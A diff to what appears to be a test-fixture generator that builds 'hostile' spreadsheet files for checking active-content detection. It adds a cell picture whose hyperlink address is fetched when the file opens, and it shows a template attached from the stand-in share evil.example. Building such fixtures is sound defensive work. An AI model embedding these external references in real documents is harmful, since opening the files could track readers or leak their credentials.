@@ -122,6 +122,12 @@ def picture_from_an_address(state: str, traps: Traps) -> bytes:
 
 
 @hostile("active-content")
+def picture_in_a_cell_from_an_address(state: str, traps: Traps) -> bytes:
+    """The function IMAGE keeps its address as a hyperlink, which a spreadsheet fetches as it opens the file."""
+    return with_relation(state, "hyperlink", traps.url, part="xl/richData/rdRichValueWebImage.xml")
+
+
+@hostile("active-content")
 def template_from_a_share(state: str, traps: Traps) -> bytes:
     return with_relation(state, "attachedTemplate", "file://///evil.example/share/t.xltm")
 
